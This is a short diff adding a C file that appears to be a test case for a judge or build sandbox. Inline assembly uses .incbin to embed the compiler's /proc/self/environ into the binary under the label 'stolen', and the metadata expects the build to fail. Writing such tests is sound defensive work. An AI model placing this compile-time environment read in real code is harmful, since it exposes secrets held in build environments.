@@ -1,0 +1,5 @@
+// attack: {"at": "compile", "earns": [0, 0], "builds": false}
+// Embeds the compiler's environment with .incbin, to read it when it runs: there is no such file.
+#ifndef WITHOUT_ATTACK
+asm(".data\nstolen: .incbin \"/proc/self/environ\"\n.text");
+#endif
